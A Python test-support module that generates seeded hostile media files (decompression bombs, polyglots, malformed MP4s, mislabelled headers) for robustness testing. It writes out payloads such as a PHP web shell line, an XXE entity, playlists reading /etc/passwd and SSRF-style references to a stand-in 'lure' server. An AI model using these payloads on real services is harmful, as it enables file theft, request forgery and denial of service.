"""Files that were made to hurt, drawn from a seed: the same ones each time, and others for another seed.

`lure` is the address of a server that nobody may ask; it stands wherever a format can name one.
"""

import io
import random
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

from PIL import Image

from tests.support.builders import films, media_corpus

EACH = 22
"""Files of each kind."""


def hostile(kind: str, seed: int, lure: str, film: bytes) -> Iterator[tuple[str, bytes]]:
    """Name → content, of one kind."""
    for number in range(EACH):
        chance = random.Random(f"{seed} {kind} {number}")
        yield f"{kind} {number} of seed {seed}", KINDS[kind](chance, lure, film)


def film(folder: Path) -> bytes:
    """What broken films are made from."""
    return films.film(folder / "film", frames=12).read_bytes()


def _photo(chance: random.Random) -> bytes:
    ways: list[Callable[[], bytes]] = [media_corpus.jpeg, media_corpus.png, media_corpus.webp]
    return chance.choice(ways)()


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _box(kind: bytes, body: bytes = b"") -> bytes:
    return struct.pack(">I4s", 8 + len(body), kind) + body


def _after(content: bytes, mark: bytes, change: bytes, offset: int = 0) -> bytes:
    at = content.index(mark) + len(mark) + offset
    return content[:at] + change + content[at + len(change) :]


def _bomb(chance: random.Random, _lure: str, film: bytes) -> bytes:
    side = chance.choice([20_000, 65_535, 2**31 - 1, 16_384, 40_000])
    zeros = zlib.compress(bytes(30_000_000), 9)
    png = media_corpus.png()
    ways: list[Callable[[], bytes]] = [
        lambda: media_corpus.png_bomb(side, side),
        lambda: media_corpus.png_bomb(chance.randint(1, 3), side),
        lambda: _after(media_corpus.jpeg(), b"\xff\xc0", struct.pack(">HH", 65_500, 65_500), 3),
        lambda: b"RIFF\x2c\0\0\0WEBPVP8X\x0a\0\0\0" + bytes(4) + b"\xff\xff\xff" * 2 + bytes(22),
        lambda: png[:33] + _chunk(b"iCCP", b"x\0\0" + zeros) + png[33:],
        lambda: png[:33] + _chunk(b"zTXt", b"x\0\0" + zeros) * 3 + png[33:],
        lambda: png[:33] + _chunk(b"IDAT", zeros) + png[33:],
        lambda: _after(film, b"avc1", struct.pack(">HH", 65_535, 65_535), 24),
        lambda: film.replace(b"\x00\x00\x00\x18stts", b"\x00\x00\x00\x18stts\xff\xff\xff\xff"),
    ]
    return chance.choice(ways)()


def _polyglot(chance: random.Random, lure: str, film: bytes) -> bytes:
    second = chance.choice(
        [
            b"PK\x03\x04" + chance.randbytes(80),
            b"%PDF-1.7\n1 0 obj<</URI(" + lure.encode() + b")>>",
            b"<!DOCTYPE html><script src='" + lure.encode() + b"'></script>",
            b"<svg xmlns='http://www.w3.org/2000/svg'><image href='" + lure.encode() + b"'/></svg>",
            b"Rar!\x1a\x07\x00" + chance.randbytes(40),
            b"<?php system($_GET['c']); ?>",
        ]
    )
    first = chance.choice([_photo(chance), film])
    if first.startswith(b"\xff\xd8") and chance.random() < 0.5:
        return first[:2] + b"\xff\xfe" + struct.pack(">H", len(second) + 2) + second + first[2:]
    return first + second if chance.random() < 0.7 else second + first


def _document(chance: random.Random, lure: str, _film: bytes) -> bytes:
    text = chance.choice(
        [
            f"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n{lure}\n",
            f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{lure}"\n#EXTINF:1,\nfile:///etc/passwd\n',
            f"ffconcat version 1.0\nfile '{lure}'\nfile '/etc/passwd'\n",
            f"<?xml version='1.0'?><MPD><BaseURL>{lure}</BaseURL></MPD>",
            f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '{lure}'>]><svg>&e;</svg>",
            f"<svg xmlns='http://www.w3.org/2000/svg'><image href='{lure}'/></svg>",
            f"<html><img src='{lure}'><script>fetch('{lure}')</script></html>",
            f"%PDF-1.4\n1 0 obj<</Type/Action/S/URI/URI({lure})>>endobj\n%%EOF",
            f"%!PS-Adobe-3.0 EPSF-3.0\n({lure}) run\n",
            f"[playlist]\nFile1={lure}\nNumberOfEntries=1\n",
            f"push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 'url({lure})'\npop graphic-context\n",
            f"<smil><video src='{lure}'/></smil>",
            f"DTSTART\nimage:{lure}\n",
        ]
    )
    lead = chance.choice(["", "\ufeff", "   \n", "\0\0\0\0", "<!-- a -->"])
    return (lead + text).encode(chance.choice(["utf-8", "utf-8", "utf-16"]))


def _truncated(chance: random.Random, _lure: str, film: bytes) -> bytes:
    whole = chance.choice([_photo(chance), film])
    return whole[: chance.randint(4, len(whole) - 8)]


def _mislabelled(chance: random.Random, _lure: str, _film: bytes) -> bytes:
    magic = chance.choice(
        [
            b"\xff\xd8\xff\xe0",
            b"\xff\xd8\xff\xdb",
            b"\x89PNG\r\n\x1a\n",
            b"RIFF\xff\xff\xff\xffWEBP",
            b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom",
            b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic",
            b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmif1",
            b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ",
            b"GIF89a",
            b"BM",
            b"II*\x00",
            b"8BPS",
            b"\x1aE\xdf\xa3",
            b"FLV\x01",
            b"RIFF\x00\x00\x01\x00AVI ",
            b"\x47" + bytes(187) + b"\x47",
            b"\x7fELF",
            b"MZ",
            b"\x1f\x8b\x08\x00SIMPLE  =",
            b"\x00\x00\x00\x0cJXL \r\n\x87\n",
            b"\x00\x00\x00\x0cjP  \r\n\x87\n",
            b"\x76\x2f\x31\x01",
            b"OggS",
            b"ID3\x04",
        ]
    )
    return magic + chance.randbytes(chance.choice([0, 1, 40, 5_000, 300_000]))


def _absurd(chance: random.Random, _lure: str, film: bytes) -> bytes:
    width, height = (chance.choice([0, 1, 2**15, 2**31 - 1, 2**32 - 1]) for _ in range(2))
    ways: list[Callable[[], bytes]] = [
        lambda: media_corpus.png_bomb(width, height),
        lambda: _after(media_corpus.png(), b"IHDR", bytes([chance.randint(0, 255)]), 8),
        lambda: _after(
            media_corpus.jpeg(), b"\xff\xc0", struct.pack(">HH", width & 0xFFFF, height & 0xFFFF), 3
        ),
        lambda: _after(media_corpus.jpeg(), b"\xff\xc0", bytes([chance.randint(0, 255)]), 7),
        lambda: _after(film, b"avc1", struct.pack(">HH", width & 0xFFFF, height & 0xFFFF), 24),
        lambda: _after(film, b"mvhd", struct.pack(">I", chance.choice([0, 2**32 - 1])), 12),
        lambda: _after(film, b"mdhd", struct.pack(">I", chance.choice([0, 2**32 - 1])), 12),
        lambda: _after(film, b"tkhd", chance.randbytes(36), 40),
    ]
    return chance.choice(ways)()


def _heavy(chance: random.Random, lure: str, film: bytes) -> bytes:
    """Much beside the pixels. Some of these are sound photos."""
    jpeg, png = media_corpus.jpeg(), media_corpus.png()
    secret = b"SECRET " + lure.encode()
    segment = b"\xff\xe1\xff\xff" + (b"http://ns.adobe.com/xap/1.0/\0" + secret * 3000)[:65_533]
    ways: list[Callable[[], bytes]] = [
        lambda: jpeg[:2] + segment.replace(secret, secret.ljust(len(secret))) * 40 + jpeg[2:],
        lambda: jpeg[:2] + b"\xff\xfe\x00\x04SE" * 200_000 + jpeg[2:],
        lambda: jpeg[:2] + b"\xff" * 500_000 + jpeg[2:],
        lambda: png[:33] + _chunk(b"tEXt", b"a\0" + secret) * 60_000 + png[33:],
        lambda: png[:33] + _chunk(b"prVt", secret * 100_000) + png[33:],
        lambda: film + _box(b"udta", _box(b"\xa9xyz", secret * 100_000)),
        lambda: film + _box(b"free") * 200_000,
        lambda: film + _nested(3_000),
        lambda: _webp_with(b"EXIF", secret * 50_000),
        lambda: _webp_with(b"XMP ", secret * 50_000),
    ]
    return chance.choice(ways)()


def _nested(depth: int) -> bytes:
    body = b""
    for _ in range(depth):
        body = _box(b"moov", body)
    return body


def _webp_with(name: bytes, body: bytes) -> bytes:
    body += bytes(len(body) & 1)
    whole = media_corpus.webp() + name + struct.pack("<I", len(body)) + body
    return whole[:4] + struct.pack("<I", len(whole) - 8) + whole[8:]


def _bent(chance: random.Random, _lure: str, film: bytes) -> bytes:
    """A sound file with a few bytes changed."""
    content = bytearray(chance.choice([_photo(chance), _photo(chance), film, _heif()]))
    for _ in range(chance.choice([1, 3, 20, 200])):
        content[chance.randrange(len(content))] = chance.randrange(256)
    return bytes(content)


def _heif() -> bytes:
    made = io.BytesIO()
    import pillow_heif  # noqa: PLC0415 - a large library, for a few files

    pillow_heif.from_pillow(Image.new("RGB", (64, 48), "red")).save(made, quality=50)
    return made.getvalue()


TABLES = [
    b"stts",
    b"ctts",
    b"stsc",
    b"stsz",
    b"stco",
    b"stss",
    b"elst",
    b"stsd",
    b"avcC",
    b"esds",
    b"hdlr",
    b"dref",
]


def _broken_film(chance: random.Random, lure: str, film: bytes) -> bytes:
    """A film whose tables lie: counts, sizes and offsets beyond everything, or data that lie elsewhere."""
    table = chance.choice([name for name in TABLES if name in film])
    ways: list[Callable[[], bytes]] = [
        lambda: _after(film, table, struct.pack(">I", chance.choice([0, 2**31, 2**32 - 1])), 4),
        lambda: _after(film, table, chance.randbytes(16)),
        lambda: film.replace(table, chance.choice([b"free", b"moof", b"meta", chance.randbytes(4)])),
        lambda: film.replace(b"url \x00\x00\x00\x01", b"url \x00\x00\x00\x00" + lure.encode() + b"\0"),
        lambda: film[: film.index(table) - 4] + bytes(4) + film[film.index(table) :],
    ]
    return chance.choice(ways)()


def _nothing(chance: random.Random, _lure: str, _film: bytes) -> bytes:
    return chance.choice(
        [b"", b"\0", b"\xff\xd8\xff", bytes(100_000), chance.randbytes(chance.randint(1, 2000))]
    )


KINDS: dict[str, Callable[[random.Random, str, bytes], bytes]] = {
    "bombs": _bomb,
    "polyglots": _polyglot,
    "documents": _document,
    "truncated": _truncated,
    "mislabelled": _mislabelled,
    "absurd dimensions": _absurd,
    "huge metadata": _heavy,
    "bent bytes": _bent,
    "broken films": _broken_film,
    "nothing": _nothing,
}
